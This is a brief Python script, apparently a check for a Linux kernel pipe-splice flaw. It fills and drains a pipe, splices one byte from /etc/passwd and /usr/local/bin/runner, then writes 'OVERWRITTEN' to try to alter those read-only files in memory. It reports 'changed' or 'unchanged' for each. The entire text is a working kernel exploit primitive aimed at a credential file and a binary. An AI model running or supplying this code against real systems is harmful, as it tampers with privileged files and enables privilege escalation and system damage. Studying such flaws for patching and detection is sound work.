import os

for path in "/usr/local/bin/runner", "/etc/passwd":
    fd = os.open(path, os.O_RDONLY)
    before = os.pread(fd, 16, 0)
    r, w = os.pipe()
    os.set_blocking(w, False)
    try:
        while True:
            os.write(w, bytes(4096))
    except BlockingIOError:
        pass
    os.set_blocking(r, False)
    try:
        while True:
            os.read(r, 65536)
    except BlockingIOError:
        pass
    os.splice(fd, w, 1, offset_src=1)
    os.write(w, b"OVERWRITTEN")
    print(path + ":", "unchanged" if os.pread(os.open(path, os.O_RDONLY), 16, 0) == before else "changed")
